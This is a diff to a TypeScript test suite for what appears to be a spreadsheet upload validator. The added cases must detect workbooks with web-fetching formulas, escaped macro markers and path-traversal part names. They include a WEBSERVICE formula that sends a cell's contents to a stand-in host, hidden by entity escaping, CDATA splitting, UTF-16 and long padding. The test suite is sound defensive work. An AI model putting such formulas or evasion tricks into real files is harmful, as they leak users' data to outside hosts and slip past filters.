@@ -21,6 +21,15 @@ const typesWith = (override: string) => CONTENT_TYPES.replace('</Types>', `${ove
 const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');
 const MASHUP =
   '<?xml version="1.0" encoding="UTF-8"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>';
+const FETCHES =
+  'UNSAFE: This workbook has formulas that fetch from the web. Copy its cells into a new spreadsheet, paste them as values, save that as XLSX and upload it.';
+const sheetOf = (formula: string, encoded: (xml: string) => string | Buffer = (xml) => xml) =>
+  workbookOf([
+    [
+      'xl/worksheets/sheet1.xml',
+      encoded(`<?xml version="1.0" encoding="UTF-8"?><worksheet><c><f>${formula}</f></c></worksheet>`),
+    ],
+  ]);
 const macros = relations('vbaProject', 'harmless.bin');
 
 test.each<[string, Buffer, string]>([
@@ -34,6 +43,11 @@ test.each<[string, Buffer, string]>([
     MACROS,
   ],
   ['one whose kind is escaped', workbookOf([[RELATIONS, macros.replace('vba', '&#118;&#x62;a')]]), MACROS],
+  [
+    'one whose kind is escaped with zeros',
+    workbookOf([[RELATIONS, macros.replace('vba', '&#0000000118;&#x00000062;a')]]),
+    MACROS,
+  ],
   ['one told of in UTF-16', workbookOf([[RELATIONS, utf16(macros)]]), MACROS],
   [
     'one by its content type',
@@ -128,6 +142,13 @@ test.each<[string, Buffer, string]>([
     ]),
     'TYPE_NOT_ALLOWED: The spreadsheet is damaged. Save it again as XLSX and upload it.',
   ],
+  ['a formula that sends a cell away', sheetOf('_xlfn.WEBSERVICE("https://a.b/"&amp;A1)'), FETCHES],
+  ['one as another program takes it', sheetOf('1+webservice(A1)'), FETCHES],
+  ['one whose name is escaped', sheetOf('_xlfn.&#87;EB&#x00000053;ERVICE(A1)'), FETCHES],
+  ['one whose name is cut', sheetOf('_xlfn.WEB<!-- a --><![CDATA[SERVICE]]>(A1)'), FETCHES],
+  ['one in UTF-16', sheetOf('_xlfn.WEBSERVICE(A1)', utf16), FETCHES],
+  ['one far down', sheetOf(`${' '.repeat(16_374)}_xlfn.WEBSERVICE(A1)`), FETCHES],
+  ['a formula that fetches a picture', sheetOf('_xlfn.IMAGE("https://a.b/c.png")'), FETCHES],
   ['another file inside', workbookOf([['xl/embeddings/oleObject1.bin', 'a']]), INSIDE],
   ['a part that leaves its folder', workbookOf([['../../evil.xml', 'a']]), WAY_OUT],
   ['one that does so further on', workbookOf([['xl/..\\..\\evil.xml', 'a']]), WAY_OUT],
@@ -164,6 +185,8 @@ test.each<[string, Buffer]>([
     'words in a cell',
     workbookOf([['xl/sharedStrings.xml', '<sst><t>vbaProject externalLink ../..</t></sst>']]),
   ],
+  ['words about services', workbookOf([['xl/sharedStrings.xml', '<sst><t>Webservice, image (2)</t></sst>']])],
+  ['a formula with a link to click', sheetOf('HYPERLINK("https://a.b","IMAGE("&amp;A1)')],
   ['a box to tick', workbookOf([['xl/ctrlProps/ctrlProp1.xml', '<formControlPr/>']])],
   ['two dots in a name', workbookOf([['xl/media/a..b.png', 'a']])],
   [
